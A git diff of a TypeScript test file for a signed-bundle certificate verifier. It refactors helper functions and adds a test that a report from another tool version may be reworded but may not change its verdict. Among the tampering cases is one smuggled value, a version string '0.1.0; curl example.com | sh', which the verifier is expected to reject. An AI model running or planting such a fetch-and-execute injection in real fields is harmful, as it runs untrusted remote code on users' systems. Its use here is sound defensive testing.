@@ -5,20 +5,22 @@ import { beforeAll, describe, expect, test } from 'vitest';
 import { EVIDENCE_FILE, REPORT_FILE, STATEMENT_FILE } from '../../certificate/bundle.js';
 import { jsonText } from '../../certificate/dsse.js';
 import { keyidOf } from '../../certificate/keys.js';
-import type { VerifyOptions } from '../../certificate/verify.js';
 import { problemsOf, validatorOf } from '../schemas/schema-validator.js';
 import { randomFrom } from './attacks.js';
 import {
   bundle,
   copyOf,
   type Line,
+  linesIn,
   newSigner,
   record,
-  refusals,
+  refusalsOf,
+  restate,
   state,
   statementIn,
   temporary,
   verified,
+  writeLines,
 } from './bundle.js';
 
 // Changes to a signed bundle by who does not have the key.
@@ -42,17 +44,10 @@ const write = (directory: string, name: string, bytes: Uint8Array | string) =>
   writeFileSync(join(directory, name), bytes);
 
 /** Changes the statement, which is then signed by nobody. */
-function restate(directory: string, change: (statement: Line) => void = () => undefined): Promise<void> {
+function change(directory: string, by: (statement: Line) => void = () => undefined): Promise<void> {
   const statement = statementIn(directory);
-  change(statement);
+  by(statement);
   return state(directory, JSON.stringify(statement));
-}
-
-/** What is said of a bundle that does not verify. */
-async function refusalsOf(path: string, options?: Partial<VerifyOptions>): Promise<string> {
-  const verification = await verified(path, options);
-  expect(verification.verified).toBe(false);
-  return refusals(verification).join('\n');
 }
 
 test('a bundle is verified as a directory and as an archive, and the result keeps to its schema', async () => {
@@ -73,8 +68,25 @@ test('what a programme signs, it ran itself', async () => {
   expect(await verified(unsigned, { programmes })).toMatchObject({ class: 'self-attested' });
 });
 
+test('a report of another version may have other words, but no other verdict', async () => {
+  const directory = copyOf(unsigned);
+  const [header, ...rest] = linesIn(directory);
+  writeLines(directory, [{ ...header, tool: { ...header.tool, version: '0.0.9' } }, ...rest]);
+  await bundle(directory);
+  const report = String(read(directory, REPORT_FILE));
+  const verifiedWith = async (text: string) => {
+    write(directory, REPORT_FILE, text);
+    await restate(directory, statementIn(directory));
+    return verified(directory);
+  };
+  const reworded = await verifiedWith(report.replace('"durationMs": ', '"durationMs": 1'));
+  expect(reworded).toMatchObject({ verified: true, differences: [], notChecked: [expect.stringContaining('0.0.9')] });
+  const other = await verifiedWith(report.replace('"verdict": "pass"', '"verdict": "warn"'));
+  expect(other).toMatchObject({ verified: false, differences: [{ certified: 'warn', derived: 'pass' }] });
+});
+
 describe('a change is refused, and the message names it', () => {
-  type Change = readonly [what: string, expected: RegExp, change: (at: string) => void | Promise<void>];
+  type Change = readonly [what: string, expected: RegExp, make: (at: string) => void | Promise<void>];
   const CHANGES: readonly Change[] = [
     ...FILE_NAMES.map(
       (name): Change => [
@@ -97,13 +109,13 @@ describe('a change is refused, and the message names it', () => {
       /^digests: report.json was changed/,
       (at) => write(at, REPORT_FILE, String(read(at, REPORT_FILE)).replace('"verdict": "pass"', '"verdict": "warn"')),
     ],
-    ['the signature removed', /^signature: The statement names a key, but has no signature/, (at) => restate(at)],
+    ['the signature removed', /^signature: The statement names a key, but has no signature/, (at) => change(at)],
     [
       'the signature of another statement',
       /^signature: The signature does not fit the statement/,
       async (at) => {
         const { signatures } = JSON.parse(String(read(at, STATEMENT_FILE)));
-        await restate(at, ({ predicate }) => {
+        await change(at, ({ predicate }) => {
           predicate.conformance.issuedAt = '2026-01-01T00:00:00.000Z';
         });
         write(at, STATEMENT_FILE, jsonText({ ...JSON.parse(String(read(at, STATEMENT_FILE))), signatures }));
@@ -112,7 +124,7 @@ describe('a change is refused, and the message names it', () => {
     [
       'a member that no statement has',
       /^envelope: .*must NOT have additional properties/,
-      (at) => restate(at, (statement) => Object.assign(statement, { note: 1 })),
+      (at) => change(at, (statement) => Object.assign(statement, { note: 1 })),
     ],
     [
       'a member twice',
@@ -123,16 +135,16 @@ describe('a change is refused, and the message names it', () => {
       'a version that is a command',
       /^envelope: .*tool\/version must match pattern/,
       (at) =>
-        restate(at, ({ predicate }) => {
+        change(at, ({ predicate }) => {
           predicate.conformance.tool.version = '0.1.0; curl example.com | sh';
         }),
     ],
     ['bytes after the envelope', /^envelope: /, (at) => write(at, STATEMENT_FILE, `${read(at, STATEMENT_FILE)} `)],
   ];
 
-  test.each(CHANGES)('%s', async (_what, expected, change) => {
+  test.each(CHANGES)('%s', async (_what, expected, make) => {
     const directory = copyOf(signed);
-    await change(directory);
+    await make(directory);
     expect(await refusalsOf(directory)).toMatch(expected);
   });
 
